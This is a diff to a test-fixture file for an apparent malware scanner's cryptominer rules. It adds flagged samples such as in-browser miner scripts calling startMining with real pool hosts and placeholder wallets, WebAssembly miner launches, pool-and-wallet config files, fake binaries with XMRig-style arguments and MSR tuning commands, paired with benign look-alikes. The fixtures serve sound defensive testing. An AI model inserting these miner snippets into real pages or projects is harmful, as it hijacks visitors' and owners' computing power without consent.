@@ -1,5 +1,6 @@
 /** Miner disguises and look-alikes beyond test/malware-disguises.test.ts's own (see kit.ts). */
 import {
+  bin,
   fakeElf,
   fakeMoneroWallet,
   pseudoRandom,
@@ -215,6 +216,66 @@ export const THREATS: Sample[] = [
     'dropper2',
     elf('main.main', '/tmp/.x/kswapd0', `${IP}:3333`, 'rx/0', '--cpu-priority', '--donate-level'),
   ),
+  // in-browser miners served from a web root
+  threat(
+    'webmr.js page: startMining with a known pool and a wallet',
+    'index.html',
+    `<html><body><script src="/js/webmr.js"></script><script>startMining("moneroocean.stream","${XMR}");</script></body></html>`,
+  ),
+  threat(
+    'startMining with an IP pool and a wallet, no miner script named',
+    'app.js',
+    `window.onload = () => startMining("${IP}:3333", "${XMR}", "x", 2);\n`,
+  ),
+  threat(
+    'webmr.js loaded, startMining with variables',
+    'index.htm',
+    `<script src="js/webmr.min.js"></script><script>var p = POOL, w = W; startMining(p, w);</script>`,
+  ),
+  threat(
+    'CryptoNight WebAssembly miner started with a pool and a wallet',
+    'm.html',
+    `<script src="/lib/cryptonight.wasm.js"></script><script>var m=new Miner({pool:"${IP}:3333",wallet:"${ETH}",threads:4});m.start();</script>`,
+  ),
+  threat(
+    'cn.wasm worker with a wallet option',
+    'miner.js',
+    `const w = new Worker("/static/cn.wasm.js");\nw.postMessage({ wallet: "${XMR}", threads: 2 });\n`,
+  ),
+  threat(
+    'webminer script started with a pool',
+    'page.html',
+    `<script src="https://cdn.example.test/webminer-2.1.min.js"></script><script>new WebMiner({ poolUrl: "wss://proxy.example.test:8181", siteKey: "k" }).start();</script>`,
+  ),
+  threat(
+    'a CoinHive-style client of another name with a site key',
+    'site.js',
+    "var c = new Nebula.Anonymous('abcdefghijklmnopqrstuvwx', {throttle: 0.3}); c.start();\n",
+  ),
+  // settings holding a known pool's host and a Monero wallet, the port a field of its own
+  threat(
+    'Python dataclass with pool, port and wallet fields',
+    'dataclass.py',
+    `from dataclasses import dataclass\n@dataclass\nclass Cfg:\n    xmr_pool: str = "pool.supportxmr.com"\n    xmr_port: int = 3333\n    xmr_address: str = "${XMR}"\n`,
+  ),
+  threat(
+    'env file with pool host, port and wallet',
+    'app.env',
+    `POOL_HOST=gulf.moneroocean.stream\nPOOL_PORT=10128\nADDR=${XMR}\n`,
+  ),
+  // executables holding a wallet next to a pool option
+  threat('ELF: --url then a wallet', 'dropper_wallet', elf('main.main', '--url', XMR, 'pool.example')),
+  threat(
+    'ELF: -o, pool, -u, wallet as C strings',
+    'dropper_o',
+    elf('main', '-o', `${IP}:3333`, '-u', `${XMR}.rig1`, '-p', 'x'),
+  ),
+  threat('ELF: wallet before --url', 'dropper_rev', elf('init', XMR, `${IP}:3333`, '--url')),
+  threat(
+    'ELF: an embedded XMRig pool entry',
+    'dropper_json',
+    elf('main', `{"url":"${IP}:3333","user":"${XMR}","pass":"x"}`),
+  ),
   // host preparation
   threat(
     'RandomX MSR and huge-page tuning',
@@ -332,6 +393,49 @@ export const LEGITIMATE: Sample[] = [
   ),
   clean('a YAML pool list of databases', 'db.yml', 'pools: [{url: db.internal:5432, user: app}]\nmax: 10\n'),
   clean('a JSON pool with a name', 'pool.json', '{"pools":[{"pool":"db.internal:5432","name":"main"}]}\n'),
+  clean(
+    'a README showing webmr.js usage',
+    'README.md',
+    `# webmr\n\n\`\`\`html\n<script src="webmr.js"></script>\n<script>startMining("moneroocean.stream", "${XMR}");</script>\n\`\`\`\n`,
+  ),
+  clean(
+    'a page about CryptoNight WebAssembly miners',
+    'history.html',
+    '<html><body><p>Sites once served cryptonight.wasm; blockers now stop it. Set the pool: in your app.</p></body></html>',
+  ),
+  clean(
+    'an Ethereum dev tool starting its local miner',
+    'chain.js',
+    'export async function mine(node) { await node.startMining(); await provider.send("miner_start", []); }\n',
+  ),
+  clean('an anonymous auth client', 'auth.js', 'const a = new Auth.Anonymous(); a.start();\n'),
+  clean(
+    'a Python blocklist of pools',
+    'blocklist.py',
+    'BLOCKED = ["pool.supportxmr.com", "gulf.moneroocean.stream", "xmr.nanopool.org"]\n',
+  ),
+  clean(
+    'a README with a pool name and a donation wallet',
+    'README.md',
+    `# xmr-tools\n\nTested against pool.supportxmr.com.\n\nDonate: ${XMR}\n`,
+  ),
+  clean(
+    'a wallet tool binary: a wallet far from --url',
+    'wallet-cli',
+    elf(
+      '--url',
+      'http://node.example.test:18081',
+      'usage: wallet-cli [options]',
+      'transfer <address> <amount>',
+      'donate',
+      XMR,
+    ),
+  ),
+  clean(
+    'a binary with --url and no wallet',
+    'fetch',
+    elf('--url', 'https://example.test:8443', '-o', 'out.bin', '-u', 'admin'),
+  ),
 ];
 
 /** Samples of the rules this area adds to the pack. */
@@ -350,5 +454,16 @@ export const RULE_SAMPLES: Record<string, RuleSamples> = {
   'miner-host-preparation': {
     positive: text(sh('sysctl -w vm.nr_hugepages=1280\nwrmsr -a 0x1a4 0xf'), 'prep.sh'),
     negative: text(sh('sysctl -w vm.nr_hugepages=1024\nmodprobe msr'), 'prep.sh'),
+  },
+  'miner-pool-wallet-settings': {
+    positive: text(`POOL = "pool.supportxmr.com"\nPORT = 3333\nWALLET_ADDRESS = "${XMR}"\n`, 'settings.py'),
+    negative: text(
+      'POOL = "pool.supportxmr.com"\nPORT = 3333\nWALLET_ADDRESS = os.environ["W"]\n',
+      'settings.py',
+    ),
+  },
+  'miner-wallet-dropper': {
+    positive: bin(elf('main.main', '--url', `${IP}:3333`, XMR)),
+    negative: bin(elf('main.main', '--url', `${IP}:3333`, 'admin')),
   },
 };
